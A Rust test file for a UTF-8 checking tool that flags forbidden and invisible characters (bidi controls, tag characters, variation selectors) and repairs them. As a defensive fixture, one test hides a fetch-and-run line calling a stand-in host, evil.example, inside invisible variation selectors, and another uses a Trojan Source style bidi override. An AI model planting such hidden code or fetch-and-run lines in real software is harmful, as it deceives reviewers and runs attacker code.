//! Tests `--profile`.

use std::fs;

use crate::folder::{Folder, stdout, trust8};
use predicates::prelude::*;
use predicates::str::{contains, is_empty};
use serde_json::Value;
use snapbox::{IntoData, assert_data_eq, str};

/// A character of each length, an ill-formed sequence, and a line feed. A profile forbids some of
/// them.
const TEXT: &[u8] = b"\xEF\xBB\xBFa\x1B\xFF\xC2\x85\n\xE2\x80\xAEb\n\xEF\xBB\xBF\xF3\xA0\x81\x81!";

#[test]
fn forbidden_characters_are_reported_like_errors() {
    let folder = Folder::new();
    folder.file("bad", TEXT);
    let short =
        folder.trust8().args(["--format", "short", "--all", "--profile", "source", "bad"]).assert().code(1);
    assert_data_eq!(
        stdout(&short),
        str![[r#"
bad:1:3: byte 4: forbidden character U+001B, 1 byte: 1B; it is a control that terminals may take for a command
bad:1:4: byte 5: byte that never appears in UTF-8: FF; RFC 3629 section 1 forbids it
bad:1:5: byte 6: forbidden character U+0085, 2 bytes: C2 85; it is a C1 control that some programs take for a line end
bad:2:1: byte 9: forbidden character U+202E, 3 bytes: E2 80 AE; it is a bidirectional control, which reorders the text that one sees
bad:3:1: byte 14: forbidden character U+FEFF, 3 bytes: EF BB BF; it is a byte order mark inside the text
bad:3:2: byte 17: forbidden character U+E0041, 4 bytes: F3 A0 81 81; it is a tag character outside a flag, which hides text from readers

"#]]
        .raw()
    );
    let json = folder.trust8().args(["--json", "--all", "--profile", "source", "bad"]).assert().code(1);
    let json: Value = serde_json::from_str(&stdout(&json)).unwrap();
    let errors = json["files"][0]["errors"].as_array().unwrap();
    let classes: Vec<_> =
        errors.iter().map(|error| (error["offset"].as_u64(), error["class"].as_str())).collect();
    assert_eq!(
        classes,
        [
            (Some(4), Some("c0-control")),
            (Some(5), None),
            (Some(6), Some("next-line")),
            (Some(9), Some("bidi-control")),
            (Some(14), Some("byte-order-mark")),
            (Some(17), Some("stray-tag")),
        ]
    );
    assert_eq!(errors[3]["character"], "U+202E");
    assert_eq!((&errors[3]["kind"], &errors[3]["rfc3629_section"]), (&"forbidden".into(), &Value::Null));
}

#[test]
fn the_example_in_the_readme_is_what_the_command_prints() {
    let folder = Folder::new();
    folder.file("login.rs", "if user != \"guest\u{202E}\" {\n");
    let run = folder.trust8().args(["--format", "short", "--profile", "source", "login.rs"]).assert().code(1);
    let example = format!("```text\n$ trust8 --format short --profile source login.rs\n{}```", stdout(&run));
    assert!(include_str!("../../README.md").contains(&example), "{example}");
}

#[test]
fn a_forbidden_line_feed_still_ends_its_line() {
    let folder = Folder::new();
    folder.file("names", "a\nb\u{7F}");
    let run = folder.trust8().args(["-f", "short", "-a", "--profile", "file-name", "names"]).assert().code(1);
    let places: Vec<_> =
        stdout(&run).lines().map(|line| line.split(": ").next().unwrap().to_owned()).collect();
    assert_eq!(places, ["names:1:2", "names:2:2"]);
}

#[test]
fn what_a_profile_allows_is_valid() {
    let folder = Folder::new();
    folder.file("fine", format!("\u{FEFF}{}", "“quoted” – 👩‍👩‍👧\r\n\tend\n".repeat(9000)));
    for name in ["xml", "terminal"] {
        folder.trust8().args(["--profile", name, "fine"]).assert().code(0).stdout(is_empty());
    }
    folder.trust8().args(["--profile", "sauce", "fine"]).assert().code(2).stderr(contains("source, prompt"));
}

#[test]
fn workflows_of_github_get_annotations() {
    let folder = Folder::new();
    folder.file("a,b.rs", "x\n\u{2066}");
    let run = folder.trust8().args(["--format", "github", "--profile", "source", "a,b.rs"]).assert().code(1);
    let line = stdout(&run);
    assert!(
        line.starts_with("::error file=a%2Cb.rs,line=2,col=1::byte 2: forbidden character U+2066"),
        "{line}"
    );
}

#[test]
fn fix_repairs_what_a_profile_forbids() {
    let folder = Folder::new();
    for (policy, expected) in [
        ("replace", "\u{FEFF}a\u{FFFD}\u{FFFD}\u{FFFD}\n\u{FFFD}b\n\u{FFFD}\u{FFFD}!"),
        ("drop", "\u{FEFF}a\u{FFFD}\nb\n!"),
        ("escape", "\u{FEFF}a\\u{1B}\u{FFFD}\\u{85}\n\\u{202E}b\n\\u{FEFF}\\u{E0041}!"),
        ("caret", "\u{FEFF}a^[\u{FFFD}\\u{85}\n\\u{202E}b\n\\u{FEFF}\\u{E0041}!"),
        ("reference", "\u{FEFF}a\u{FFFD}\u{FFFD}&#x85;\n&#x202E;b\n&#xFEFF;&#xE0041;!"),
    ] {
        folder.file("bad", TEXT);
        let args = ["fix", "--replace", "--profile", "source", "--policy", policy, "bad"];
        let run = folder.trust8().args(args).assert().code(0);
        assert_eq!(stdout(&run), expected, "{policy}");
    }
    folder.file("valid", "a\0b");
    folder.trust8().args(["fix", "-n", "--profile", "postgres", "valid"]).assert().code(1);
    let fix = ["fix", "-i", "--profile", "postgres", "--policy", "drop", "valid"];
    folder.trust8().args(fix).assert().code(0).stderr(contains("1 forbidden character"));
    assert_eq!(std::fs::read(folder.at("valid")).unwrap(), b"ab");
    folder.trust8().args(fix).assert().code(0).stderr(contains("1 forbidden character").not());
}

/// An attack hides code in hundreds of characters that nobody sees. That is one finding, which says what they are.
#[test]
fn a_run_of_invisible_characters_is_one_finding_with_what_it_spells() {
    let code = "fetch('//evil.example/x').then(run)".repeat(12);
    let selectors: String =
        code.bytes().filter_map(|byte| char::from_u32(0xE0100 + u32::from(byte) - 16)).collect();
    let folder = Folder::new();
    let before = "const a = 1;\nlet s = '".to_owned();
    let text = format!("{before}{selectors}';\n\0\n\0\0\n");
    folder.file("f.js", &text);
    let check = |options: &[&str]| {
        let check =
            folder.trust8().args(["--profile", "source", "-a"]).args(options).arg("f.js").assert().code(1);
        stdout(&check)
    };
    let short = check(&["-f", "short"]);
    let lines: Vec<_> = short.lines().collect();
    assert_eq!(lines.len(), 3, "{short}");
    let [n, len] = [code.len(), 4 * code.len()];
    assert!(
        lines[0].starts_with(&format!(
            "f.js:2:10: byte 22: {n} variation selectors, which spell `fetch('//evil.example/x').then(run)fetch..`, {len} bytes from U+E0156 on; each is a variation selector"
        )),
        "{short}"
    );
    assert!(lines[1].starts_with("f.js:3:1: byte "), "{short}");
    assert!(lines[2].contains(": 2 forbidden characters, 2 bytes from U+0000 on; each is NUL"), "{short}");
    // A pipe gives the same.
    let piped =
        trust8().args(["--profile", "source", "-af", "short"]).write_stdin(text.clone()).assert().code(1);
    assert_eq!(stdout(&piped).replace("<stdin>", "f.js"), short);
    let human = check(&[]);
    assert!(human.len() < 2000, "{human}");
    let json: Value = serde_json::from_str(&check(&["-f", "json"])).unwrap();
    let error = &json["files"][0]["errors"][0];
    assert_eq!((&error["offset"], &error["length"], &error["count"]), (&22.into(), &len.into(), &n.into()));
    assert_eq!((&error["class"], &error["spelled"]), (&"stray-selector".into(), &code.as_str().into()));
    assert_eq!(json["summary"]["errors"], n as u64 + 3);
    let sarif: Value = serde_json::from_str(&check(&["-f", "sarif"])).unwrap();
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(
        (&result["ruleId"], &result["locations"][0]["physicalLocation"]["region"]["byteLength"]),
        (&"stray-selector".into(), &len.into())
    );
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    for result in sarif["runs"][0]["results"].as_array().unwrap() {
        let rule = rules.iter().find(|rule| rule["id"] == result["ruleId"]).expect("a rule");
        assert!(rule["help"]["text"].as_str().unwrap().contains("trust8"));
    }
    assert_eq!(
        rules.iter().map(|rule| rule["id"].as_str().unwrap()).collect::<std::collections::HashSet<_>>().len(),
        rules.len()
    );
    assert!(check(&["-f", "github"]).starts_with("::error file=f.js,line=2,col=10::byte 22: "));
    // Each kind of character counts for an exception.
    folder.file(
        "trust8.toml",
        "[[exception]]\npath = \"f.js\"\nclass = [\"stray-selector\", \"nul\"]\nreason = \"Test\"\n",
    );
    folder.trust8().args(["--profile", "source", "f.js"]).assert().code(0);
}

/// Wherever a run begins in what is read at once, it is one finding.
#[test]
fn a_run_is_one_finding_at_any_place() {
    for start in ((1 << 18) - 700..(1 << 18) + 8).step_by(97).chain(0..40) {
        let text = format!("{}{}tail", "x".repeat(start), "\u{E0141}".repeat(150));
        let run = trust8().args(["--profile", "source", "-af", "jsonl"]).write_stdin(text).assert().code(1);
        let said = stdout(&run);
        assert!(
            said.contains(&format!("\"offset\":{start},\"length\":600,\"count\":150,")),
            "{start}: {said:.300}"
        );
        assert_eq!(said.matches("\"type\":\"error\"").count(), 1);
    }
}

/// Such a character waits for the next one, which decides about it. Invalid bytes overtook it: the byte order mark of this
/// file moved to its end.
#[test]
fn what_is_invalid_stays_between_the_same_characters() {
    let folder = Folder::new();
    for (before, after) in [
        (&b"\xEF\xBB\xBF\xFF\n"[..], &b"\xEF\xBB\xBF\xFF\n"[..]),
        (b"\xEE\x80\x80\xFF \xE2\x80\xAE\n", b"\xEE\x80\x80\xFF \n"),
        (b"\xC3\xA9\xE2\x80\x8D\xFF\xE2\x80\x8D\xC3\xA9\n", b"\xC3\xA9\xFF\xC3\xA9\n"),
        // They end the context, as `check` has it: U+200E once stayed there, and two of these marks did not.
        (b"\xD7\x90\xFF\xE2\x80\x8Ea\n", b"\xD7\x90\xFFa\n"),
        (b"\xFF\xEF\xBB\xBFa\n", b"\xFFa\n"),
        (
            b"a\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xFF\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xCC\x81 \xE2\x80\xAE\n",
            b"a\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xFF\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xCC\x81 \n",
        ),
        // A selector is no stray after an ideograph, but it comes after an invalid byte.
        (b"\xE6\xBC\xA2\xFF\xF3\xA0\x84\x80\n", b"\xE6\xBC\xA2\xFF\n"),
    ] {
        for args in [&["--profile", "source"][..], &["--profile", "source", "--unmojibake"]] {
            folder.file("f", before);
            folder.trust8().args(["fix", "-i", "--policy", "drop", "f"]).args(args).assert().code(1);
            assert_eq!(fs::read(folder.at("f")).unwrap(), after, "{args:?}");
        }
    }
}
